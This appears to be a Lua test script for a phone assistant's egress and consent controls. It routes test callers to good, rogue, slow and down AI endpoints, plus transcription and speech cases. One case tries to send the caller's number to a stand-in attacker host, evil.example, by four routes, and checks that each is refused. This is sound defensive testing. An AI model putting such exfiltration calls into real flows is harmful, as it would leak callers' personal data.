-- The egress tests' flow: after the consent question, one call:ask whose options the
-- caller's number chooses, then the answer is said, or "Keine Antwort." and the reason
-- is logged. Caller +4910010 refuses the consent and the flow asks all the same; a
-- withdrawal is logged when it comes.
call.on_withdraw = function(c, level) c:log("egress-test: withdrawn " .. level) end
local cases = {
    ["+4910001"] = {},
    ["+4910002"] = { stream = true },
    ["+4910003"] = { url = "https://127.0.0.9:@GOOD@/v1/chat/completions" },
    ["+4910004"] = { url = "http://127.0.0.1:@GOOD@/v1/chat/completions" },
    ["+4910005"] = { url = "https://127.0.0.2:@GOOD@/v1/chat/completions" },
    ["+4910006"] = { url = "https://localhost:@ROGUE@/v1/chat/completions" },
    ["+4910007"] = { url = "https://127.0.0.3:@TLS11@/v1/chat/completions" },
    ["+4910008"] = { purpose = "marketing" },
    ["+4910009"] = { url = "https://127.0.0.1:@DOWN@/v1/chat/completions" },
    ["+4910010"] = {},
    -- over SIP only (real time; tests/egress/test_ask_sip.sh)
    ["+4910011"] = { url = "https://127.0.0.1:@SLOW@/v1/chat/completions" },
    ["+4910012"] = { url = "https://127.0.0.1:@STUCK@/v1/chat/completions" },
    ["+4910013"] = { url = "https://127.0.0.1:@SLOW@/v1/chat/completions" },
}
if call.caller == "+4910014" then
    -- a flow that tries to smuggle the caller's number out: every way is refused
    local level = call:consent{}
    local _, e1 = pcall(call.play, call, "https://evil.example/x.wav?n=" .. call.caller)
    call:log("egress-test: play url: " .. tostring(e1))
    local _, e2 = pcall(call.ask, call, "Hallo", { headers = { ["X-Caller"] = call.caller } })
    call:log("egress-test: ask header: " .. tostring(e2))
    local _, e3 = pcall(call.transfer, call, "sip:empfang@testbetrieb.example?X-Caller="
        .. call.caller)
    call:log("egress-test: transfer query: " .. tostring(e3))
    local r4, e4 = call:ask("Hallo", { url = "https://evil.example/v1?n=" .. call.caller })
    call:log("egress-test: ask evil url: " .. tostring(r4) .. " " .. tostring(e4))
    call:say("Nichts geschickt.")
    call:hangup()
    return
end
-- call:listen: the caller's utterance transcribed ("ja" from the test server)
local listens = {
    ["+4910015"] = {},
    ["+4910016"] = { url = "https://127.0.0.1:@GOOD@/inference" },   -- whisper.cpp's
    ["+4910017"] = {},                        -- the consent is refused first
    ["+4910018"] = { timeout = 2000 },        -- the caller says nothing
    ["+4910019"] = {},                        -- withdraws while speaking
    ["+4910020"] = { url = "https://127.0.0.1:@SLOW@/v1/audio/transcriptions" },  -- SIP
    ["+4910023"] = {},                        -- level 2: the transcript is kept
    ["+4910024"] = {},                        -- level 2, then withdrawn
}
-- barge-in: the caller may interrupt a long say by voice or a key
if call.caller == "+4910025" or call.caller == "+4910026" then
    call:consent{}
    local ok, why = call:say("Unsere Öffnungszeiten sind Montag bis Freitag von acht bis "
        .. "achtzehn Uhr und samstags von neun bis zwölf Uhr.", { barge = true })
    call:log("egress-test: barge " .. tostring(ok) .. " " .. tostring(why))
    call:say(ok and "Bis bald." or "Sie haben unterbrochen.")
    call:hangup()
    return
end
-- call:say through the TTS endpoint (level 2 covers its purpose) or the local TTS
if call.caller == "+4910021" or call.caller == "+4910022" then
    local level = call:consent{}
    call:log("egress-test: consent " .. tostring(level))
    call:say("Willkommen beim Testbetrieb, Ihr Termin ist notiert.")
    call:hangup()
    return
end
if listens[call.caller] then
    local level = call:consent{}
    call:log("egress-test: consent " .. tostring(level))
    local text, why = call:listen(listens[call.caller])
    if text then
        call:log("egress-test: heard " .. text)
        call:say("Sie sagten: " .. text)
        call:sleep(1500)
    else
        call:log("egress-test: nothing heard: " .. why)
        call:say("Keine Antwort.")
    end
    call:hangup()
    return
end
local opts = cases[call.caller] or {}
local level, why = call:consent{}
call:log("egress-test: consent " .. tostring(level) .. " " .. tostring(why))
local reply, err = call:ask({
    { role = "system", content = "Du bist der Telefonassistent eines Handwerksbetriebs." },
    { role = "user", content = "Ich möchte einen Termin. Meine Nummer ist 030 1234567, "
        .. "meine E-Mail max.mustermann@example.de, geboren am 12.03.1985, "
        .. "IBAN DE89 3704 0044 0532 0130 00." },
}, opts)
if reply then
    call:log("egress-test: reply " .. reply)
    call:say(reply)
else
    call:log("egress-test: no reply: " .. err)
    call:say("Keine Antwort.")
end
call:hangup()
